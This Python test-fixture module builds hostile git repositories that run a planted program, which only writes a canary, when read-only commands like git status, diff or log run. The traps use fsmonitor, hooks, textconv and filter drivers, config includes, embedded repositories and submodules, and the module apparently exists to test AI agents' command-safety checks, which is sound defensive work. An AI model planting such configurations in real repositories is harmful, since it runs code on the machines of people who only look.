"""Repositories made to run something when somebody merely looks at them.

Each trap is a folder, a git command that springs it, and a canary that is there once something of the repository's ran. The
canary lies beside the folder, and so does the program that makes it: neither is in the repository.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

LOOKING = (
    "git status",
    "git status --short",
    "git diff",
    "git diff --stat",
    "git log -p",
    "git log --oneline",
    "git show",
    "git blame file.txt",
    "git grep one",
    "git stash list",
    "git stash show -p",
    "git submodule status",
    "git describe --always --dirty",
    "git ls-files",
    "git branch -a",
)
"""What models run to look around."""

_SIGNER = """#!/bin/sh
cat > /dev/null
printf '\\n[GNUPG:] SIG_CREATED \\n' >&2
printf -- '-----BEGIN PGP SIGNATURE-----\\nx\\n-----END PGP SIGNATURE-----\\n'
"""


@dataclass(frozen=True)
class Trap:
    """`folder` is what a session would work in, `springs_on` the command that needs no further one."""

    folder: Path
    canary: Path
    springs_on: str

    @property
    def commands(self) -> tuple[str, ...]:
        """Its own command, and every other one in the folder where it has to be run."""
        where, found, _ = self.springs_on.rpartition("&& ")
        return (self.springs_on, *(f"{where}{found}{command}" for command in LOOKING))

    def springs(self) -> bool:
        """Whether the command, run bare, runs something of the repository's: the counter-proof."""
        environment = {"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
        self.reset()
        subprocess.run(
            ["bash", "-c", self.springs_on],
            cwd=self.folder,
            env=environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=30,
        )
        return self.canary.exists()

    def reset(self) -> None:
        self.canary.unlink(missing_ok=True)
        for path in self.folder.rglob("file.txt"):
            os.utime(path)  # so that git looks at it again


class Builder:
    """A repository with two commits, a stash and a changed file."""

    def __init__(self, place: Path, springs_on: str = "git status") -> None:
        self.folder = place / "workspace"
        self.canary = place / "CANARY"
        self.program = place / "evil"
        self.springs_on = springs_on
        self.folder.mkdir(parents=True, exist_ok=True)
        self.program.write_text(f"#!/bin/sh\necho x >> '{self.canary}'\n")
        self.program.chmod(0o755)
        self.commit_into(self.folder)

    def trap(self) -> Trap:
        return Trap(self.folder, self.canary, self.springs_on)

    def commit_into(self, folder: Path) -> Path:
        self.git("init", "-q", "-b", "main", str(folder))
        for text in ("one\n", "one\ntwo\n", "one\ntwo\nthree\n"):
            (folder / "file.txt").write_text(text)
            self.git("-C", str(folder), "add", ".")
            self.git("-C", str(folder), *(["stash", "-q"] if "three" in text else ["commit", "-qm", text]))
        (folder / "file.txt").write_text("one\nTWO\n")
        return folder

    def git(self, *words: str) -> None:
        who = ("-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "protocol.file.allow=always")
        environment = {"PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
        subprocess.run(["git", *who, *words], cwd=self.folder, env=environment, check=True, capture_output=True)

    def config(self, key: str, value: str | None = None) -> None:
        self.git("config", key, str(self.program) if value is None else value)

    def write(self, path: str, text: str) -> Path:
        file = self.folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        return file

    def evil_config(self, *more: str) -> str:
        return "\n".join(("[core]", "repositoryformatversion = 0", "bare = false", f"fsmonitor = {self.program}", *more, ""))

    def embedded(self, name: str) -> Path:
        """A folder with what makes it a repository, without `.git`: any clone may bring one along."""
        folder = self.folder / name
        for below in ("objects", "refs/heads"):
            (folder / below).mkdir(parents=True)
        (folder / "HEAD").write_text("ref: refs/heads/main\n")
        (folder / "config").write_text(self.evil_config("worktree = ."))
        return folder

    def submodule(self, name: str = "sub") -> Path:
        """A submodule as an older git keeps it, with a `.git` folder of its own; it has a fsmonitor and a filter."""
        folder = self.commit_into(self.folder / name)
        self.git("add", name)
        self.git("commit", "-qm", "submodule", "--", name)
        for key in ("core.fsmonitor", "filter.x.clean"):
            self.git("-C", str(folder), "config", key, str(self.program))
        (folder / ".gitattributes").write_text("* filter=x\n")
        return folder

    def plain_submodule(self, name: str = "sub") -> Path:
        folder = self.submodule(name)
        for key in ("core.fsmonitor", "filter.x.clean"):
            self.git("-C", str(folder), "config", "--unset", key)
        return folder


Build = Callable[[Path], Trap]
TRAPS: dict[str, Build] = {}


def _trap(build: Build) -> Build:
    TRAPS[build.__name__.strip("_").replace("_", "-")] = build
    return build


def _with_keys(place: Path, springs_on: str, **keys: str | None) -> Trap:
    made = Builder(place, springs_on)
    for key, value in keys.items():
        made.config(key.replace("__", "."), value)
    return made.trap()


@_trap
def _fsmonitor(place: Path) -> Trap:
    return _with_keys(place, "git status", core__fsmonitor=None)


@_trap
def _hooks_path(place: Path) -> Trap:
    made = Builder(place)
    (place / "hooks").mkdir()
    (place / "hooks" / "post-index-change").symlink_to(made.program)
    made.config("core.hooksPath", str(place / "hooks"))
    return made.trap()


@_trap
def _hook(place: Path) -> Trap:
    made = Builder(place)
    (made.folder / ".git" / "hooks").mkdir(exist_ok=True)
    (made.folder / ".git" / "hooks" / "post-index-change").symlink_to(made.program)
    return made.trap()


@_trap
def _external_diff(place: Path) -> Trap:
    return _with_keys(place, "git diff", diff__external=None)


def _with_attributes(place: Path, springs_on: str, attributes: str, **keys: str | None) -> Trap:
    found = _with_keys(place, springs_on, **keys)
    (found.folder / ".gitattributes").write_text(f"* {attributes}\n")
    return found


@_trap
def _diff_driver(place: Path) -> Trap:
    return _with_attributes(place, "git diff", "diff=x", diff__x__command=None)


@_trap
def _text_conversion_in_diff(place: Path) -> Trap:
    return _with_attributes(place, "git diff", "diff=x", diff__x__textconv=None)


@_trap
def _text_conversion_in_log(place: Path) -> Trap:
    return _with_attributes(place, "git log -p", "diff=x", diff__x__textconv=None)


@_trap
def _text_conversion_in_show(place: Path) -> Trap:
    return _with_attributes(place, "git show", "diff=x", diff__x__textconv=None)


@_trap
def _text_conversion_in_blame(place: Path) -> Trap:
    return _with_attributes(place, "git blame file.txt", "diff=x", diff__x__textconv=None)


@_trap
def _text_conversion_in_grep(place: Path) -> Trap:
    return _with_attributes(place, "git grep --textconv one", "diff=x", diff__x__textconv=None)


@_trap
def _text_conversion_in_stash(place: Path) -> Trap:
    return _with_attributes(place, "git stash show -p --textconv", "diff=x", diff__x__textconv=None)


@_trap
def _filter(place: Path) -> Trap:
    return _with_attributes(place, "git status", "filter=x", filter__x__clean=None)


@_trap
def _filter_process(place: Path) -> Trap:
    return _with_attributes(place, "git diff", "filter=x", filter__x__process=None)


@_trap
def _include(place: Path) -> Trap:
    made = Builder(place)
    made.config("include.path", str(made.write("harmless.txt", made.evil_config())))
    return made.trap()


@_trap
def _include_if(place: Path) -> Trap:
    made = Builder(place)
    made.config("includeIf.onbranch:main.path", str(made.write("harmless.txt", made.evil_config())))
    return made.trap()


@_trap
def _worktree_config(place: Path) -> Trap:
    made = Builder(place)
    made.config("extensions.worktreeConfig", "true")
    made.write(".git/config.worktree", f"[core]\nfsmonitor = {made.program}\n")
    return made.trap()


@_trap
def _linked_worktree(place: Path) -> Trap:
    made = Builder(place, "cd tree && git status")
    made.git("worktree", "add", "-q", "tree", "HEAD")
    made.config("core.fsmonitor")
    return made.trap()


@_trap
def _work_tree_elsewhere(place: Path) -> Trap:
    return _with_keys(place, "cd .. && cd workspace && git status", core__worktree="..", core__fsmonitor=None)


@_trap
def _signature(place: Path) -> Trap:
    made = Builder(place, "git log")
    signer = place / "signer"
    signer.write_text(_SIGNER)
    signer.chmod(0o755)
    made.git("-c", f"gpg.program={signer}", "commit", "-q", "--allow-empty", "-S", "-m", "signed")
    made.config("gpg.program")
    made.config("log.showSignature", "true")
    return made.trap()


@_trap
def _promisor(place: Path) -> Trap:
    """A partial clone whose remote is reached by a program; the newest file is missing here."""
    made = Builder(place, "git show")
    made.config("uploadpack.allowFilter", "true")
    made.git("clone", "-q", "--bare", str(made.folder), str(place / "remote.git"))
    made.git("-C", str(place / "remote.git"), "config", "uploadpack.allowFilter", "true")
    shutil.rmtree(made.folder)
    made.folder.mkdir()
    made.git("clone", "-q", "--no-local", "--filter=blob:none", "-n", str(place / "remote.git"), ".")
    made.config("remote.origin.uploadpack", f"{made.program};false")
    return made.trap()


@_trap
def _alternates(place: Path) -> Trap:
    made = Builder(place, "git log --oneline --alternate-refs")
    made.git("clone", "-q", "--bare", ".", "../other.git")
    made.write(".git/objects/info/alternates", f"{place}/other.git/objects\n")
    made.config("core.alternateRefsCommand")
    return made.trap()


@_trap
def _embedded(place: Path) -> Trap:
    made = Builder(place, "cd docs && git status")
    made.embedded("docs")
    return made.trap()


@_trap
def _embedded_with_common_folder(place: Path) -> Trap:
    """GT-01: the folder has no `objects` and no `refs`; `commondir` says where they are."""
    made = Builder(place, "cd docs && git status")
    made.embedded("docs/theme")
    made.write("docs/theme/config", made.evil_config("[extensions]", "worktreeConfig = true"))
    made.write("docs/config.worktree", "[core]\nbare = false\nworktree = .\n")
    made.write("docs/HEAD", "ref: refs/heads/main\n")
    made.write("docs/commondir", "theme\n")
    return made.trap()


@_trap
def _embedded_with_dangling_head(place: Path) -> Trap:
    """GT-02: HEAD is a link to a branch that is not there yet."""
    made = Builder(place, "cd docs && git status")
    folder = made.embedded("docs")
    (folder / "HEAD").unlink()
    (folder / "HEAD").symlink_to("refs/heads/main")
    return made.trap()


@_trap
def _submodule(place: Path) -> Trap:
    made = Builder(place)
    made.submodule()
    return made.trap()


@_trap
def _submodule_in_split_index(place: Path) -> Trap:
    """GT-03: the entry of the submodule lies in the shared part of the index."""
    made = Builder(place)
    made.submodule()
    made.git("update-index", "--split-index")
    return made.trap()


@_trap
def _submodule_in_index_of_version_4(place: Path) -> Trap:
    made = Builder(place)
    made.submodule()
    made.git("update-index", "--index-version", "4")
    return made.trap()


@_trap
def _submodule_of_submodule(place: Path) -> Trap:
    made = Builder(place)
    made.plain_submodule()
    inner = made.commit_into(made.folder / "sub" / "inner")
    made.git("-C", "sub", "add", "inner")
    made.git("-C", str(inner), "config", "core.fsmonitor", str(made.program))
    return made.trap()


@_trap
def _submodule_status(place: Path) -> Trap:
    made = Builder(place, "git submodule status --recursive")
    folder = made.submodule()
    made.write(".gitmodules", '[submodule "sub"]\npath = sub\nurl = ./sub\n')
    made.config("submodule.sub.url", "./sub")
    made.git("-C", str(folder), "commit", "-q", "--allow-empty", "-m", "more")
    return made.trap()


@_trap
def _diff_in_submodule(place: Path) -> Trap:
    made = Builder(place, "git diff --submodule=diff")
    folder = made.plain_submodule()
    made.git("-C", "sub", "config", "diff.x.textconv", str(made.program))
    (folder / ".gitattributes").write_text("* diff=x\n")
    return made.trap()


@_trap
def _pointer(place: Path) -> Trap:
    """A `.git` file that leads to an embedded folder."""
    made = Builder(place, "cd docs && git status")
    made.embedded("theme")
    made.write("docs/file.txt", "x\n")
    made.write("docs/.git", "gitdir: ../theme\n")
    return made.trap()


def hostile_repositories(place: Path) -> list[tuple[Path, Path]]:
    """All of them below `place`, as pairs of folder and canary."""
    built = (build(place / name) for name, build in TRAPS.items())
    return [(trap.folder, trap.canary) for trap in built]
